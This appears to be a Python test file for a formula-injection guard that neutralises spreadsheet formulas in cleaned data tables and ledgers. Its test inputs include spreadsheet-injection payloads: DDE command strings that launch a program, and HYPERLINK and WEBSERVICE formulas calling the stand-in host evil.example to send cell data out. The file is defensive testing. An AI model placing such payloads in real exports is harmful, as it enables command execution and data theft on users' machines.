"""Formula injection: what would run is made harmless in data and ledgers, everything else stays."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from odkit.clean import clean_table
from odkit.formulas import guarded, would_run
from odkit.model import Field, SourceTable, TableSchema
from odkit.package.ledger import change_rows, issue_rows

FIELDS = (Field(name="備考", title="備考"), Field(name="数", title="数", meaning="number", type="number"))
SCHEMA = TableSchema(id="test.v1", name="test", title="試験", version="v1", kind="recommended", fields=FIELDS)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?"&A1,"見る")',
        "＝cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '-WEBSERVICE("http://evil.example")',
        "+'C:\\[帳簿.xlsx]表'!$A$1",
        "\t=1+1",
        "\r\n =1+1",
        "＠SUM（1）",
    ],
)
def test_what_runs(text: str) -> None:
    assert would_run(text)
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "=",
        "-",
        "-5",
        "-1,234.5",
        "△5",
        "+81-43-223-2110",
        "+81 (0)43 223 2110",
        "@chiba_pref",
        "@name!",
        "-（なし）",
        "-10℃～40℃",
        "- 注意！予約が要ります",
        "+α",
        "--",
        "1=1",
        "a@example.lg.jp",
        "'=1+1",
        "　＝＝＝＝",
    ],
)
def test_what_does_not(text: str) -> None:
    assert not would_run(text)


@given(st.text(alphabet="=＝+-@\t\r\n 'aZ1(|!$あ", max_size=12))
def test_a_guarded_text_never_runs_and_no_other_is_touched(text: str) -> None:
    assert not would_run(guarded(text))
    assert guarded(guarded(text)) == guarded(text)
    assert guarded(text) in (text, f"'{text}")
    if text.strip()[:1] == "=" and text.strip() != "=":
        assert guarded(text) != text


@given(st.decimals(allow_nan=False, allow_infinity=False))
def test_numbers_do_not_run(number: object) -> None:
    assert not would_run(str(number))
    assert not would_run(f"+{number}")


def test_values_and_headings_of_a_table(source: Callable[..., SourceTable]) -> None:
    table = source(["備考", "数", "=1+1"], ["=cmd|' /C calc'!A0", "=5", "a"], ["-5", "-5", "@SUM(A1)"])
    made = clean_table(table, SCHEMA)
    assert made.rows == (("'=cmd|' /C calc'!A0", "'=5", "a"), ("-5", "-5", "'@SUM(A1)"))
    assert [match.name for match in made.matches] == ["備考", "数", "'=1+1"]
    assert [(item.where.cell, item.rule) for item in made.changes] == [
        ("B4", "formula-guard"),
        ("C4", "formula-guard"),
        ("D5", "formula-guard"),
    ]
    assert ("clean.formula-heading", "D3") in [(item.code, item.where.cell) for item in made.issues]
    ledgers = [*change_rows([made]), *issue_rows([made])]
    assert [cell for row in ledgers for cell in row if would_run(cell)] == []
    assert any("'=cmd" in cell for row in ledgers for cell in row)
